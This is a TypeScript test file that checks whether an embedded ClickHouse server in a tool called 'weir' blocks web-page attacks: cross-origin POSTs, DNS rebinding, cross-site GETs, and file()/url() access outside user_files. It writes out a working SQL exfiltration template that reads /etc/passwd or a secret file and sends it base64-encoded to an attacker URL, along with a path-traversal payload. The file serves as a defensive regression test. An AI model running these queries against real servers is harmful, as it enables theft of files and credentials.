// The embedded ClickHouse as a web page would try it: the exfiltration of issue 12 (a cross-origin POST, and a
// DNS-rebinding page that sends its own Host) against a real `weir clickhouse` process. A listener in this
// process stands for the attacker's server and records whatever reaches it.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ClickHouseLogLevel, createClient } from '@clickhouse/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePorts } from '../../env/processes.js';
import { waitFor } from '../../env/wait.js';
import { WEIR_BIN, startWeir, type WeirProcess } from '../../fixtures/processes.js';

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** One HTTP request with exactly these headers (fetch would not send a Host of our choosing). */
function send(url: string, opts: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method: opts.method ?? 'POST', headers: opts.headers ?? {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }));
    });
    req.on('error', reject);
    req.end(opts.body ?? '');
  });
}

/** The attacker's server: records every request that reaches it. */
async function startListener(): Promise<{ server: Server; url: string; received: string[] }> {
  const received: string[] = [];
  const server = createServer((req, res) => {
    received.push(req.url ?? '');
    res.end('ok\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received };
}

async function startClickHouse(dataDir: string, flags: string[] = []): Promise<{ proc: WeirProcess; url: string; port: number }> {
  const [port = 0] = await freePorts(1);
  const proc = startWeir(['clickhouse', '--data-dir', dataDir, '--port', String(port), ...flags]);
  await proc.waitForLog('clickhouse listening', (l) => l.message === 'clickhouse listening', 60_000);
  return { proc, url: `http://127.0.0.1:${port}`, port };
}

const SECRET = 'the-secret-line';

/** The repro, reading `path` and sending its first line to `attacker`. */
const exfiltration = (attacker: string, path: string): string =>
  `SELECT * FROM url(concat('${attacker}/?d=', (SELECT base64Encode(line) FROM file('${path}','LineAsString') LIMIT 1)), 'LineAsString')`;

describe('the embedded ClickHouse port, by default', () => {
  let dataDir: string;
  let ch: { proc: WeirProcess; url: string; port: number };
  let attacker: Awaited<ReturnType<typeof startListener>>;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'weir-ch-guard-'));
    attacker = await startListener();
    ch = await startClickHouse(dataDir);
    writeFileSync(join(dataDir, 'user_files', 'secret.txt'), `${SECRET}\n`);
  });

  afterAll(async () => {
    await ch?.proc.kill('SIGTERM');
    await new Promise((r) => attacker?.server.close(r));
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('refuses the cross-origin POST of the exfiltration, as ClickHouse answers, and nothing leaves', async () => {
    const answer = await send(`${ch.url}/`, {
      headers: { 'content-type': 'text/plain', origin: 'http://evil.example' },
      body: exfiltration(attacker.url, '/etc/passwd'),
    });
    expect(answer.status).toBe(403);
    expect(answer.headers['x-clickhouse-exception-code']).toBe('497');
    expect(answer.body.replace(/\(version [^)]+\)/, '(version V)')).toBe(
      "Code: 497. DB::Exception: Refused a request from the web page at Origin 'http://evil.example': browsers may not send queries here. " +
        'Start the server with --allow-origin http://evil.example to allow it. (ACCESS_DENIED) (version V)\n',
    );
    expect(answer.headers['access-control-allow-origin']).toBeUndefined();
    expect(attacker.received).toEqual([]);
  });

  it('refuses a DNS-rebinding page (its own name in Host), naming the Host and the flag', async () => {
    const answer = await send(`${ch.url}/`, { headers: { host: `attacker.example:${ch.port}` }, body: exfiltration(attacker.url, '/etc/passwd') });
    expect(answer.status).toBe(403);
    expect(answer.headers['x-clickhouse-exception-code']).toBe('497');
    expect(answer.body).toContain(`Refused a request for Host 'attacker.example:${ch.port}'`);
    expect(answer.body).toContain('Start it with --allow-host attacker.example to allow that name');
    expect(attacker.received).toEqual([]);
  });

  it('refuses a cross-site GET (an <img> tag sends no Origin) and answers a CORS preflight with no CORS headers', async () => {
    const get = await send(`${ch.url}/?query=${encodeURIComponent('SELECT 1')}`, { method: 'GET', headers: { 'sec-fetch-site': 'cross-site' } });
    expect(get.status).toBe(403);
    expect(get.body).toContain('Sec-Fetch-Site: cross-site');
    const preflight = await send(`${ch.url}/`, {
      method: 'OPTIONS',
      headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'x-clickhouse-user' },
    });
    expect(preflight.status).toBe(403);
    expect(Object.keys(preflight.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
  });

  it('refuses url() and file() outside user_files even from a local program, and reads user_files by relative name', async () => {
    const remote = await send(`${ch.url}/`, { body: exfiltration(attacker.url, 'secret.txt') });
    expect(remote.status).toBe(403);
    expect(remote.body).toContain('url() is refused: it reaches other servers, which this server allows only when started with --allow-remote-functions');
    const passwd = await send(`${ch.url}/`, { body: "SELECT * FROM file('/etc/passwd', 'LineAsString')" });
    expect(passwd.status).toBe(403);
    expect(passwd.body).toContain(`File '/etc/passwd' is not inside user_files: file() reads and writes only under ${join(dataDir, 'user_files')}`);
    const dotdot = await send(`${ch.url}/`, { body: "SELECT file('../../../../etc/passwd')" });
    expect(dotdot.status).toBe(403);
    expect((await send(`${ch.url}/`, { body: "SELECT * FROM file('secret.txt', 'LineAsString')" })).body).toBe(`${SECRET}\n`);
    expect((await send(`${ch.url}/`, { body: "SELECT file('secret.txt')" })).body).toBe(`${SECRET}\\n\n`);
    expect(attacker.received).toEqual([]);
  });

  it('serves @clickhouse/client and curl-like requests as before', async () => {
    const client = createClient({ url: ch.url, log: { level: ClickHouseLogLevel.OFF } });
    try {
      const rs = await client.query({ query: 'SELECT number FROM numbers(3)', format: 'JSONEachRow' });
      expect(await rs.json()).toEqual([{ number: 0 }, { number: 1 }, { number: 2 }]);
      expect((await client.ping()).success).toBe(true);
    } finally {
      await client.close();
    }
    const local = await send(`${ch.url}/`, { headers: { host: `localhost:${ch.port}` }, body: 'SELECT 42' });
    expect(local).toMatchObject({ status: 200, body: '42\n' });
  });
});

describe('the embedded ClickHouse port, opened with flags', () => {
  it('serves the allowed origin and host, and url() with --allow-remote-functions (file() stays in user_files)', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'weir-ch-guard-open-'));
    const attacker = await startListener();
    const ch = await startClickHouse(dataDir, ['--allow-origin', 'http://app.example:3000', '--allow-host', 'ch.example', '--allow-remote-functions']);
    try {
      writeFileSync(join(dataDir, 'user_files', 'secret.txt'), `${SECRET}\n`);
      const answer = await send(`${ch.url}/`, {
        headers: { origin: 'http://app.example:3000', host: `ch.example:${ch.port}`, 'content-type': 'text/plain' },
        body: exfiltration(attacker.url, 'secret.txt'),
      });
      expect(answer).toMatchObject({ status: 200, body: 'ok\n' });
      // url() may ask more than once (the structure, then the rows): always for the same URL.
      const sent = [...new Set(attacker.received)];
      expect(sent).toEqual([`/?d=${Buffer.from(SECRET).toString('base64')}`]);
      const requestsSoFar = attacker.received.length;

      const other = await send(`${ch.url}/`, { headers: { origin: 'http://other.example' }, body: 'SELECT 1' });
      expect(other.status).toBe(403);
      const passwd = await send(`${ch.url}/`, { body: "SELECT * FROM file('/etc/passwd', 'LineAsString')" });
      expect(passwd.status).toBe(403);
      expect(attacker.received).toHaveLength(requestsSoFar);
    } finally {
      await ch.proc.kill('SIGTERM');
      await new Promise((r) => attacker.server.close(r));
      rmSync(dataDir, { recursive: true, force: true });
    }
  });
});

describe('weir dev', () => {
  it('refuses a rebinding Host on the events and endpoints port and on its ClickHouse port, and an Origin on ClickHouse', async () => {
    const project = mkdtempSync(join(tmpdir(), 'weir-dev-guard-project-'));
    const dataDir = mkdtempSync(join(tmpdir(), 'weir-dev-guard-data-'));
    const dev = spawn(process.execPath, [WEIR_BIN, 'dev', '-f', project, '--port', '0', '--clickhouse-port', '0', '--data-dir', dataDir]);
    let output = '';
    dev.stdout.on('data', (d: Buffer) => (output += d.toString()));
    dev.stderr.on('data', (d: Buffer) => (output += d.toString()));
    try {
      await waitFor('weir dev ready', () => (/endpoints: none/.test(output) ? true : undefined), { timeoutMs: 60_000 });
      const events = /events at POST (http:\/\/[^/]+)/.exec(output)?.[1] ?? '';
      const clickhouse = /ClickHouse \(chDB\) at (http:\/\/\S+),/.exec(output)?.[1] ?? '';

      const rebound = await send(`${events}/v0/events?name=page_views`, { headers: { host: 'attacker.example' }, body: '{}' });
      expect(rebound.status).toBe(403);
      expect(JSON.parse(rebound.body)).toEqual({
        error:
          "Refused a request for Host 'attacker.example': this server answers to localhost, localhost.localdomain, ip6-localhost, 127.0.0.1 and IP addresses " +
          '(a page on another name may be DNS rebinding). Start it with --allow-host attacker.example to allow that name',
      });
      expect((await send(`${events}/healthz`, { method: 'GET' })).status).toBe(200);

      expect((await send(`${clickhouse}/`, { headers: { host: 'attacker.example' }, body: 'SELECT 1' })).status).toBe(403);
      expect((await send(`${clickhouse}/`, { headers: { origin: 'http://evil.example' }, body: 'SELECT 1' })).status).toBe(403);
      expect(await send(`${clickhouse}/`, { body: 'SELECT 1' })).toMatchObject({ status: 200, body: '1\n' });
    } finally {
      dev.kill('SIGTERM');
      await new Promise((r) => dev.on('exit', r));
      rmSync(project, { recursive: true, force: true });
      rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
